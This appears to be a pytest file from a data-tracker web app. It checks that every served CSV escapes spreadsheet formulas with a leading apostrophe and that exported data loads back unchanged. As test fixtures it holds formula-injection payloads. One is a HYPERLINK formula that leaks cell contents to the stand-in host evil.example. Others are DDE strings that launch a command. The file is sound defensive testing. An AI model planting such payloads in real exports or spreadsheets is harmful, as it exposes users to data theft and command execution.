"""Finding 4 of issue 16: text that a spreadsheet would run as a formula comes out of every CSV
we serve with a leading apostrophe, and `bri-tracker load` reads our CSV back unchanged."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import (
    Boolean,
    Column,
    Date,
    Float,
    Integer,
    MetaData,
    String,
    Table,
    select,
    text,
)
from sqlalchemy.engine import Engine

from app.config import Settings
from app.db import build_engine
from app.exports import query_csv_chunks, write_csv
from app.loader import load_paths
from app.main import create_app
from app.migrate import upgrade
from app.spreadsheet import FORMULA_STARTS, neutralise, restore
from tests.helpers import MINI, fresh_database_url
from tests.live import running

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
QUOTED = "'=already quoted by its author"
HOSTILE_DATASET = f"""
sources:
  - slug: formula-source
    title: {HYPERLINK!r}
    publisher: "{DDE}"
    kind: news
    note: "\\t=1+1"
projects:
  - slug: formula-project
    name: "{AT_SUM}"
    technology: wind
    countries: [CHN]
    sources: [formula-source]
    summary: "{MINUS}"
    metrics:
      - id: generation
        kind: generation
        value: 5
        unit: GWh
        period: annual
        basis: claimed
        source: formula-source
        baseline: "{QUOTED}"
        note: "=1+1"
statements:
  - slug: formula-statement
    text: {HYPERLINK!r}
    form: paraphrase
    source: formula-source
    projects: [formula-project]
"""
DOWNLOADS = ["/projects.csv", "/metrics.csv", "/statements.csv"]


@pytest.fixture
def hostile_dataset(tmp_path: Path) -> Path:
    folder = tmp_path / "dataset"
    shutil.copytree(MINI, folder)
    (folder / "formulas.yaml").write_text(HOSTILE_DATASET, encoding="utf-8")
    return folder


@pytest.fixture
def hostile_server(engine: Engine, db_url: str, hostile_dataset: Path):  # type: ignore[no-untyped-def]
    load_paths(engine, [hostile_dataset])
    app = create_app(Settings(database_url=db_url))
    with running(app) as base_url:
        yield base_url
    app.state.engine.dispose()


def _cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def _assert_no_formula(name: str, cells: list[str]) -> None:
    for cell in cells:
        if cell[:1] in FORMULA_STARTS:
            float(cell)  # only a number may start with "-" or "+": anything else fails here


def test_no_served_csv_cell_starts_a_formula(hostile_server: str) -> None:
    served: dict[str, list[str]] = {}
    with httpx.Client(base_url=hostile_server) as client:
        for path in DOWNLOADS:
            response = client.get(path)
            assert response.status_code == 200, path
            served[path] = _cells(response.text)
        package = client.get("/data/bri-tracker-datapackage.zip")
        assert package.status_code == 200
    with zipfile.ZipFile(io.BytesIO(package.content)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                served[name] = _cells(archive.read(name).decode("utf-8"))
    for name, cells in served.items():
        _assert_no_formula(name, cells)
    assert "'" + AT_SUM in served["/projects.csv"]
    assert "'" + HYPERLINK in served["/statements.csv"]
    assert "'" + QUOTED in served["/metrics.csv"]  # escaped once more, so it reads back whole
    assert "'=1+1" in served["sources.csv"]  # the loader trimmed the tab; still made inert
    assert "'" + DDE in served["sources.csv"]
    assert "'" + MINUS in served["projects.csv"]


def test_the_served_package_loads_back_with_the_original_text(
    hostile_server: str, tmp_path: Path
) -> None:
    package = httpx.get(f"{hostile_server}/data/bri-tracker-datapackage.zip")
    folder = tmp_path / "package"
    with zipfile.ZipFile(io.BytesIO(package.content)) as archive:
        archive.extractall(folder)
    target = build_engine(Settings(database_url=fresh_database_url(tmp_path, "reloaded")))
    upgrade(target)
    try:
        load_paths(target, [folder])
        with target.connect() as conn:
            title, publisher = conn.execute(
                text("SELECT title, publisher FROM source WHERE slug='formula-source'")
            ).one()
            name = conn.execute(text("SELECT name FROM project WHERE slug='formula-project'"))
            baseline = conn.execute(text("SELECT baseline FROM metric WHERE slug LIKE 'formula%'"))
            assert (title, publisher) == (HYPERLINK, DDE)
            assert name.scalar() == AT_SUM
            assert baseline.scalar() == QUOTED
    finally:
        target.dispose()


@pytest.mark.parametrize(
    "original",
    ["", "'", "''", "plain", "China's", "=1", "'=1", "''=1", "-2", "+", "@", "\t=1", "\r=1"],
)
def test_neutralise_round_trips_and_never_starts_a_formula(original: str) -> None:
    served = neutralise(original)
    assert served[:1] not in FORMULA_STARTS
    assert restore(served) == original


EDGE_TEXT = ["", "plain", "China's", "=1", "'=1", "'", "-", "@x", "\t=1", "\r=1", "a,b",
             'say "hi"', "two\nlines", "cr\rhere", "crlf\r\n", '=",', "é ∑ 😀"]  # fmt: skip
EDGE_FLOATS = [0.0, -0.0, 5.0, -3.0, 0.1, 0.1 + 0.2, 1 / 3, 123.456, 1e-05, 0.0001,
               999999999999999.0, 1e15, 1.5e15, 1234567890123456.5, 1e16, 1.2345e16, 2.0**53,
               1e300, -1e-300, 5e-324, 12345678.000000002]  # fmt: skip


def _edge_rows() -> list[list[Any]]:
    """Every edge text and float, with NULLs, integers, dates and booleans beside them."""
    count = max(len(EDGE_TEXT), len(EDGE_FLOATS)) + 1
    rows = []
    for i in range(count):
        text_value = EDGE_TEXT[i] if i < len(EDGE_TEXT) else None
        number = EDGE_FLOATS[i] if i < len(EDGE_FLOATS) else None
        flag = (True, False, None)[i % 3]
        day = date(2020, 1, 1 + i) if i % 4 else None
        rows.append([i, text_value, number, i * 7 - 20 if i % 5 else None, day, flag, "x,y"])
    return rows


def test_a_query_download_writes_the_cells_that_cell_and_csv_writer_write(
    engine: Engine,
) -> None:
    """The CSV of a query (SQLite: cells written in SQL, app/sqlite_csv.py) is byte
    for byte cell() + csv.writer of the same values, on hostile text and float edge cases."""
    metadata = MetaData()
    table = Table(
        "csv_edge_cases",
        metadata,
        *(Column("id", Integer, primary_key=True), Column("text", String)),
        *(Column("number", Float(precision=53)), Column("count", Integer)),
        *(Column("day", Date), Column("flag", Boolean), Column("tail", String)),
    )
    metadata.create_all(engine)
    rows = _edge_rows()
    with engine.begin() as conn:
        conn.execute(table.insert(), [dict(zip(table.c.keys(), row, strict=True)) for row in rows])
    header = list(table.c.keys())
    with engine.connect() as conn:
        served = "".join(query_csv_chunks(conn, header, select(table).order_by(table.c.id)))
    assert served == write_csv(header, rows)
